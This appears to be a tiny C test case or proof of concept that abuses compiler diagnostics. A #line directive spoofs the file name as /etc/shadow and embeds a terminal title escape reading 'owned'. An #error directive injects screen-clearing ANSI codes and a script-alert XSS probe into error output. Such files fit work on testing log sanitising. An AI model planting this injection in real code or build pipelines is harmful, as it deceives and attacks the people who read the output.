// Says that it is another file, with commands for the terminal of whoever reads the error.
#line 1 "/etc/shadow\033]0;owned\007"
#error "\033[2J\033[1;1H <script>alert(1)</script>"
int main() {}
